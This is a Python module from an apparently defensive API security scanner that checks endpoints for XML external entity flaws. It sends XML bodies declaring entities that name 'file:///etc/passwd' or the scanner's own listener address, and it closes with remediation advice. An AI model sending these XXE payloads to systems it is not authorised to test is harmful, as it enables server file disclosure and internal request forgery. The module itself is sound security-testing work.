"""XML external entities: a body as XML may name files and addresses that the parser then fetches."""

import html
import re
from collections.abc import Iterator, Mapping
from typing import Any, Final

import msgspec

from garrison.assess.assessment import Assessment
from garrison.assess.check import Check, Disturbs
from garrison.assess.checks.injection.bench import REFUSED, Bench, bench_of
from garrison.assess.checks.injection.stored import read_back
from garrison.assess.checks.injection.views import only
from garrison.assess.probe import Exchange
from garrison.assess.request import NOTHING
from garrison.assess.target import Target
from garrison.core.detection import Confidence, Severity
from garrison.core.finding import CheckId, Finding

_PASSWD: Final = re.compile(r"root:[^:\n]{0,200}:0:0:")
_WAIT: Final = 0.7
"""Seconds in which a fetch comes to the listener."""
_XML: Final = ("application/xml", "text/xml")
_NAME: Final = re.compile(r"[A-Za-z_][\w.-]*")


def each(a: Assessment, target: Target) -> Iterator[Finding]:
    """Look at one operation."""
    bench = bench_of(a, target)
    if bench is None or not target.described.bodies or target.is_safe or (bench.base.is_log_in and not _is_xml(target)):
        return
    sent = _entity(a, bench)
    if sent.answer.status in (*REFUSED, 404, 405) and not _is_xml(target):
        return
    proof = _file(a, bench) or _fetch(a, bench)
    if proof:
        declared = "" if _is_xml(target) else ", though the contract says nothing of XML"
        says = f"a body as XML{declared} makes the server read what an entity in it names"
        yield a.found(CHECK, proof, says=says, target=target, slot="body")
    elif _is_expanded(a, bench, sent):
        says = (
            "entities that a body as XML declares itself are expanded, so that a short body can become a very long one"
        )
        yield a.found(
            CHECK, [sent.says_that("the answer holds the text that two entities make")], says=says, target=target,
            slot="body", severity=Severity.MEDIUM, kind="internal", confidence=Confidence.MEDIUM,
        )  # fmt: skip


def _entity(a: Assessment, bench: Bench) -> Exchange:
    """Two entities that make one text which is not in the request."""
    return _send(bench, '<!ENTITY one "grsn"><!ENTITY two "entity7">', "&one;&two;", "entities of the body's own")


def _is_expanded(a: Assessment, bench: Bench, sent: Exchange) -> bool:
    return any("grsnentity7" in each.answer.text for each in (sent, *read_back(a, bench, sent)))


def _file(a: Assessment, bench: Bench) -> tuple[Exchange, ...]:
    sent = _send(bench, '<!ENTITY one SYSTEM "file:///etc/passwd">', "&one;", "an entity names a file of the server")
    for shown in (sent, *read_back(a, bench, sent)):
        part = _PASSWD.search(shown.answer.text)
        if part is not None:
            control = _send(bench, '<!ENTITY one "grsn">', "&one;", "without the file: nothing of it is shown")
            if not _PASSWD.search(control.answer.text):
                seen = only(shown, f"...{part[0]}...")
                seen = seen.says_that("an entity names a file of the server, and the answer shows what stands in it")
                return (seen, control) if shown is sent else (sent, seen, control)
    return ()


def _fetch(a: Assessment, bench: Bench) -> tuple[Exchange, ...]:
    if a.listener is None:
        return ()
    found = []
    for _ in range(2):
        token = a.api.sampler.word()
        sent = _send(bench, f'<!ENTITY one SYSTEM "{a.listener.address(token)}">', "&one;", "")
        if a.listener.caught(token, _WAIT) is None:
            return ()
        found.append(sent.says_that("an entity names an address, and the server sends a request to it"))
    return tuple(found)


def _send(bench: Bench, declared: str, value: str, says: str) -> Exchange:
    """The base request's body as XML, every text in it replaced."""
    body = bench.base.request.body
    root = _root(bench)
    inner = _written(body if isinstance(body, Mapping) else {"value": ""}, value)
    text = f'<?xml version="1.0"?><!DOCTYPE {root} [{declared}]><{root}>{inner}</{root}>'
    media_type = next((each.media_type for each in bench.target.described.bodies if "xml" in each.media_type), _XML[0])
    request = msgspec.structs.replace(bench.base.request, body=NOTHING, raw_body=text.encode(), media_type=media_type)
    return bench.ask(request, None, says)


def _root(bench: Bench) -> str:
    """The name of the body's outermost element, as the contract has it."""
    body = bench.target.body
    schema = body.schema.value if body is not None and body.schema is not None else {}
    named = schema.get("xml", {}).get("name") if isinstance(schema, Mapping) else None
    return named if isinstance(named, str) and _NAME.fullmatch(named) else "root"


def _written(value: Any, text: str) -> str:
    if isinstance(value, Mapping):
        return "".join(
            f"<{name}>{_written(inner, text)}</{name}>" for name, inner in value.items() if _NAME.fullmatch(str(name))
        )
    if isinstance(value, list):
        return "".join(_written(inner, text) for inner in value)
    if isinstance(value, str):
        return text
    return html.escape("" if value is None else msgspec.json.encode(value).decode(), quote=False)


def _is_xml(target: Target) -> bool:
    return any("xml" in each.media_type for each in target.described.bodies)


CHECK: Final = Check(
    id=CheckId("xml-external-entity"),
    title="XML bodies may name files and addresses",
    family="injection",
    severity=Severity.HIGH,
    tags=("owasp.api8", "owasp.api7", "cwe.611", "cwe.776"),
    looks=(
        "The operation's body is sent as XML, also where only JSON is declared, with entities that name a file and an "
        "address of the assessment's own. It is a finding where the answer shows the file, or the request comes twice. "
        "Where only entities of the body's own are expanded, that is said with less weight."
    ),
    why="Files of the server can be read, and requests sent from inside the network.",
    mend="Parse XML with document types and entities turned off, and refuse media types that no operation needs.",
    samples={
        "fastapi": "defusedxml.ElementTree.fromstring(await request.body())",
        "django": "defusedxml.ElementTree.fromstring(request.body)",
        "flask": "lxml.etree.XMLParser(resolve_entities=False, no_network=True, load_dtd=False)",
    },
    each=each,
    most=16,
    disturbs=Disturbs.OBJECTS,
)
